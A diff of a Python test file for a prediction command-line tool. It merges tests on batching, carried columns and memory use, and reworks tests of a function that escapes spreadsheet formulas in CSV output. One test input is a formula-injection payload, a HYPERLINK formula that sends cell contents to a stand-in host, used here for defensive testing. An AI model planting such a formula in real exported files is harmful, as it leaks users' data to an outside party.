@@ -142,21 +142,8 @@ def test_what_is_written_of_each_class_can_be_chosen(folder, tmp_path, capsys):
     assert message.startswith("--columns must be some of p,bounds,confidence, got 'width'")
 
 
-@pytest.mark.parametrize("size", [3, 129])
-@pytest.mark.parametrize("suffix", ["csv", "parquet", "arrow"])
-def test_batches_make_no_difference(folder, tmp_path, size, suffix, monkeypatch):
-    monkeypatch.setattr("vennforest.commands.predict.ROWS_AT_ONCE", size)
-    expected, source = pd.read_parquet(folder / "p.parquet"), folder / f"new.{suffix}"
-    if not source.exists():
-        frame = read_csv(folder / "new.csv")
-        (frame.to_parquet if suffix == "parquet" else frame.to_feather)(source)
-    output = tmp_path / "o.parquet"
-    assert run(*predict(folder, output, data=source.name)) == 0
-    answers = pd.read_parquet(output)
-    pd.testing.assert_frame_equal(answers, expected, check_exact=True)
-
-
-def test_types_and_formats_make_no_difference(folder, tmp_path):
+def test_types_formats_and_batches_make_no_difference(folder, tmp_path, monkeypatch):
+    monkeypatch.setattr("vennforest.commands.predict.ROWS_AT_ONCE", 43)
     expected = pd.read_parquet(folder / "p.parquet")
     frame = read_csv(folder / "new.csv")
     frame["joined"] = pd.to_datetime(frame["joined"], format="%d/%m/%Y")
@@ -181,18 +168,7 @@ def test_types_and_formats_make_no_difference(folder, tmp_path):
             np.testing.assert_array_equal(read[column], expected[column], err_msg=name)
 
 
-def test_identifiers_are_carried_along(folder, tmp_path):
-    output = tmp_path / "o.parquet"
-    ids = ("--id", "id", "--id", "city")
-    assert run(*predict(folder, output, *ids)) == 0
-    out = pd.read_parquet(output)
-    new = read_csv(folder / "new.csv", dtype=str)
-    assert list(out.columns) == ["id", "city", *COLUMNS]
-    assert out["id"].tolist() == new["id"].tolist() == [f"{i:05d}" for i in range(130)]
-    pd.testing.assert_series_equal(out["city"], new["city"], check_dtype=False)
-
-
-def test_all_columns_are_carried_along(folder, tmp_path, capsys):
+def test_identifiers_or_all_columns_are_carried_along(folder, tmp_path, capsys):
     output = tmp_path / "o.parquet"
     frame = read_csv(folder / "new.csv", dtype=str).rename(columns={"lower": "LOWER"})
     frame.assign(lower="1").to_csv(tmp_path / "n.csv", index=False)
@@ -201,6 +177,9 @@ def test_all_columns_are_carried_along(folder, tmp_path, capsys):
     )
     start = "carried must name columns apart from those of the output, got 'lower'"
     assert message.startswith(start)
+    assert run(*predict(folder, output, "--id", "id", "--id", "city")) == 0
+    assert list(pd.read_parquet(output).columns) == ["id", "city", *COLUMNS]
+    capsys.readouterr()
     command = ("--columns", "confidence", "--keep", "--id", "city")  # no column is called lower
     assert run(*predict(folder, output, *command)) == 0
     out, err = capsys.readouterr()
@@ -303,32 +282,29 @@ def test_models_saved_in_python(tmp_path, capsys):
 
 
 def test_memory_does_not_grow_with_the_file(tmp_path):
-    """Ten times the rows take no more memory: read, handed on and written in parts."""
+    """Fifty times the rows take no more memory: read, handed on and written in parts."""
     code = """
 import sys, resource
-from pathlib import Path
 from vennforest.cli import main
 from vennforest.commands import predict
-predict.ROWS_AT_ONCE = 2000
-code = main(["predict", *sys.argv[1:]])
-print(code, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
+predict.ROWS_AT_ONCE = 400
+model, *tables = sys.argv[1:]
+for data in tables:
+    assert main(["predict", model, data, "-o", model + ".parquet"]) == 0
+    print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
 """
     rng = np.random.default_rng(0)
-    X = pd.DataFrame({"a": rng.normal(size=200), "b": ["x" * 300 + str(i % 5) for i in range(200)]})
+    words = ["x" * 1500 + str(i % 5) for i in range(200)]
+    X = pd.DataFrame({"a": rng.normal(size=200), "b": words})
     X.assign(y=rng.random(200) < 0.5).to_csv(tmp_path / "t.csv", index=False)
-    model = tmp_path / "m.skops"
+    model, small, large = (tmp_path / name for name in ("m.skops", "small.csv", "large.csv"))
     assert run("fit", tmp_path / "t.csv", "-t", "y", "-o", model, "--trees", 2, "--jobs", 1) == 0
-    peaks = []
-    for copies in (50, 1000):
-        pd.concat([X] * copies).to_csv(tmp_path / "big.csv", index=False)
-        files = model, tmp_path / "big.csv", "-o", tmp_path / "o.parquet"
-        command = [sys.executable, "-c", code, *files]
-        done = subprocess.run([*map(str, command)], capture_output=True, text=True, check=True)
-        exit_code, peak = done.stdout.split()
-        assert exit_code == "0"
-        peaks.append(int(peak) / 1024)
-    size = (tmp_path / "big.csv").stat().st_size / 2**20
-    assert size > 60 and peaks[1] - peaks[0] < 25, (size, peaks)
+    for copies, path in ((4, small), (200, large)):
+        pd.concat([X] * copies).to_csv(path, index=False)
+    command = [sys.executable, "-c", code, model, small, large]
+    done = subprocess.run([*map(str, command)], capture_output=True, text=True, check=True)
+    first, second = map(int, done.stdout.split())
+    assert large.stat().st_size / 2**20 > 55 and second - first < 25, (first, second)
 
 
 # --- text that spreadsheet programs take for formulas: an apostrophe goes before it in CSV --------
@@ -337,16 +313,13 @@ print(code, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
 FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
 
 
-@pytest.mark.parametrize(
-    "text", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "+41 79 1", "-", "-x"]
-)
-def test_formulas(text):
-    assert as_text(text) == "'" + text
+FORMULAS = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "+41 79 1", "-", "-x"]
+NO_FORMULAS = ["-5", "+5.5", "-1e-300", " -5", "", "x=1", "a-b", "'=1", "-inf"]
 
 
-@pytest.mark.parametrize("text", ["-5", "+5.5", "-1e-300", " -5", "", "x=1", "a-b", "'=1", "-inf"])
-def test_no_formulas(text):
-    assert as_text(text) == text
+@pytest.mark.parametrize("text", [*FORMULAS, *NO_FORMULAS])
+def test_an_apostrophe_goes_before_a_formula(text):
+    assert as_text(text) == "'" * (text in FORMULAS) + text
 
 
 @pytest.fixture(scope="module")
